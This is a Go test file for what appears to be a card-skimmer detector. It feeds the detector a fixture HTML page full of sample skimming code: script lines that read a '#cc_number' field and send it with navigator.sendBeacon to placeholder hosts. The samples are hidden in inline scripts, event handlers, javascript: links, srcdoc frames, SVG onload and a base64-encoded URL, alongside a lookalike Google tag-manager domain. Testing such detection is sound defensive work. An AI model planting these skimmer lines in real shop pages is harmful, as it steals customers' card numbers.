package script_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/script"
)

const page = `<!doctype html>
<html><head><title><script>not(a, script)</script></title>
<script src="https://cdn.jsdelivr.net/npm/jquery"></script>
<script type="application/json">{"eval":"alert(1)"}</script>
<script>
  var a = 1;
  navigator.sendBeacon('https://one.example/', document.querySelector('#cc_number').value);
</script>
<script type="module">import x from './x.js';
  navigator.sendBeacon('https://two.example/', document.querySelector('#cc_number').value);</script>
</head>
<body onload="navigator.sendBeacon(&quot;https://three.example/&quot;, document.querySelector('#cc_number').value)">
<a href="javascript:void navigator.sendBeacon('https://four.example/',document.querySelector('#cc_number').value)">x</a>
<form onsubmit='return navigator.sendBeacon("https://five.example/",document.querySelector("#cc_number").value)'></form>
<iframe srcdoc="<p>&lt;
<script>navigator.sendBeacon('https://six.example/',document.querySelector('#cc_number').value)</script>"></iframe>
<svg/onload=navigator.sendBeacon('https://seven.example/',document.querySelector('#cc_number').value)>
<!-- <script>navigator.sendBeacon('https://no.example/',document.querySelector('#cc_number').value)</script> -->
<script src='//www.googletagrnanager.com/gtm.js'></script>
`

func TestEachScriptOfAPage(t *testing.T) {
	for _, encoding := range []string{"utf-8", "shift_jis", "euc-jp", "utf-16le"} {
		source := []byte(page)
		lines := strings.Split(page, "\n")
		if encoding != "utf-8" {
			source = encode(t, encoding, strings.Replace(page, "<title>", "<title>お支払い方法の選択", 1))
		}
		found := map[string]script.Piece{}
		for _, p := range script.AnalyseHTML(source, script.Options{}) {
			for _, h := range p.Analysis.Hosts {
				found[h.Name] = p
			}
		}
		for host, want := range map[string]struct{ kind, at string }{
			"cdn.jsdelivr.net":          {"external script", "https://cdn"},
			"one.example":               {"inline", ""},
			"two.example":               {"inline", "import x"},
			"three.example":             {"handler onload", "navigator.sendBeacon(&quot;https://three"},
			"four.example":              {"javascript: address", "void navigator"},
			"five.example":              {"handler onsubmit", "return navigator"},
			"six.example":               {"srcdoc inline", "navigator.sendBeacon('https://six"},
			"seven.example":             {"handler onload", "navigator.sendBeacon('https://seven"},
			"www.googletagrnanager.com": {"external script", "//www.googletagrnanager"},
		} {
			p, ok := found[host]
			if !ok {
				t.Errorf("%s: nothing about %s", encoding, host)
				continue
			}
			if p.Kind != want.kind {
				t.Errorf("%s: %s is %q, want %q", encoding, host, p.Kind, want.kind)
			}
			if want.at != "" && !strings.HasPrefix(lines[p.Line-1][p.Column-1:], want.at) {
				t.Errorf("%s: %s begins at %d:%d, %q", encoding, host, p.Line, p.Column, lines[p.Line-1][p.Column-1:])
			}
			for _, s := range p.Analysis.Sinks {
				if s.Kind == script.SinkBeacon && !strings.HasPrefix(lines[s.Line-1][s.Column-1:], "sendBeacon(") {
					t.Errorf("%s: %s is said to be sent to at %d:%d", encoding, host, s.Line, s.Column)
				}
			}
		}
		if _, ok := found["no.example"]; ok {
			t.Errorf("%s: a comment was taken for a script", encoding)
		}
		if p := found["www.googletagrnanager.com"]; p.Analysis != nil && p.Analysis.Verdict.Severity < tillwatch.Medium {
			t.Errorf("%s: a host made to be mistaken for another was judged %s", encoding, p.Analysis.Verdict.Severity)
		}
	}
}

// Shop templates and database rows are handed over as they are found, markup around the script and all.
func TestMarkupInPlaceOfAScript(t *testing.T) {
	a := script.Analyse([]byte("<div>x</div>\n<script>\n  navigator.sendBeacon(atob('aHR0cHM6Ly94LmV4YW1wbGUv'), document.querySelector('#cc_number').value);\n</script>\n"), script.Options{})
	if a.Verdict.Severity < tillwatch.High || len(a.Sinks) != 1 || a.Sinks[0].Line != 3 || a.Sinks[0].Column != 13 {
		t.Errorf("judged %s, sinks %+v", a.Verdict.Severity, a.Sinks)
	}
}

func TestThousandsOfTinyScripts(t *testing.T) {
	var b bytes.Buffer
	for i := range 5000 {
		fmt.Fprintf(&b, "<script>window.a%d = %d;</script>\n<button onclick=\"go(%d)\">x</button>\n", i, i, i)
	}
	b.WriteString("<script>navigator.sendBeacon('https://last.example/', document.querySelector('#cc_number').value)</script>")
	pieces := script.AnalyseHTML(b.Bytes(), script.Options{})
	last := pieces[len(pieces)-1]
	if len(pieces) != 10001 || last.Analysis.Partial != "" || len(last.Analysis.Hosts) != 1 || last.Line != 10001 {
		t.Errorf("%d pieces, the last %+v", len(pieces), last)
	}
}
